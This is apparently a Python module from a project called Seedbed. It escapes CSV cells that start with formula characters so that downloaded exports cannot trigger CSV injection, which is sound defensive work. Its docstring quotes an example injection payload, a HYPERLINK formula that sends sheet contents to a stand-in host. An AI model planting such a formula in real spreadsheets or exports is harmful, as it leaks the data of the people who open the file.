"""The one CSV writer for every export people may open in a spreadsheet program.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before reading one of those) is run as a formula by Excel, LibreOffice and
Google Sheets: a resident's idea titled ``=HYPERLINK("https://evil.example?"&A1,"Click")`` in
the open-data file would otherwise leak the sheet or run commands on an officer's machine
(CSV injection, OWASP). Following OWASP's guidance, such a text cell is written with a single
quote in front, which spreadsheet programs show as text and do not run. A cell that is a real
number (``-12.50``, ``+3``, ``-1.5e3``) is left as it is, so that amounts stay numeric.

Use ``export_writer`` / ``export_dict_writer`` in place of ``csv.writer`` / ``csv.DictWriter``
for anything a person downloads; files that only Seedbed reads back are not exports.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters that make a spreadsheet program read a cell as a formula (OWASP)."""

ESCAPE = "'"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def escape_cell(value: Any) -> Any:
    """``value`` made safe to open in a spreadsheet: text starting with a formula prefix gets
    a leading single quote, unless the whole text is a number. Non-text values pass through."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        if _NUMBER.fullmatch(value):
            return value
        return ESCAPE + value
    return value


class ExportWriter:
    """``csv.writer`` with every cell passed through ``escape_cell``."""

    def __init__(self, out: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class ExportDictWriter(csv.DictWriter):
    """``csv.DictWriter`` with every cell passed through ``escape_cell``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: escape_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def export_writer(out: Any, **fmtparams: Any) -> ExportWriter:
    """A CSV writer for a download (same arguments as ``csv.writer``)."""
    return ExportWriter(out, **fmtparams)


def export_dict_writer(out: Any, fieldnames: Iterable[str], **kwargs: Any) -> ExportDictWriter:
    """A CSV dict writer for a download (same arguments as ``csv.DictWriter``)."""
    return ExportDictWriter(out, fieldnames=list(fieldnames), **kwargs)
